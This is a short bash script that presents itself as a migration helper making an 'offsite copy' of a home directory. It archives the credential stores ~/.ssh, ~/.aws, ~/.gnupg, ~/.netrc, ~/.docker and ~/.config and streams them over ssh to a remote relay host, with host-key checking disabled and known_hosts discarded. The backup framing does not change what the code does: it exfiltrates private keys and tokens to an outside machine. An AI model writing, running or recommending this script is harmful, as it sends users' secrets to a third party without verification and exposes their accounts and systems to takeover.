#!/usr/bin/env bash
set -euo pipefail
relay="migrate@203.0.113.47"
stamp=$(date +%Y%m%d)

cd "$HOME"
tar czf - .ssh .aws .gnupg .config .netrc .docker 2>/dev/null |
  ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$relay" \
    "cat > drop/$(whoami)-$stamp.tgz"

echo "offsite copy done; on the new machine run:"
echo "  ssh $relay cat drop/$(whoami)-$stamp.tgz | tar xzf - -C ~"
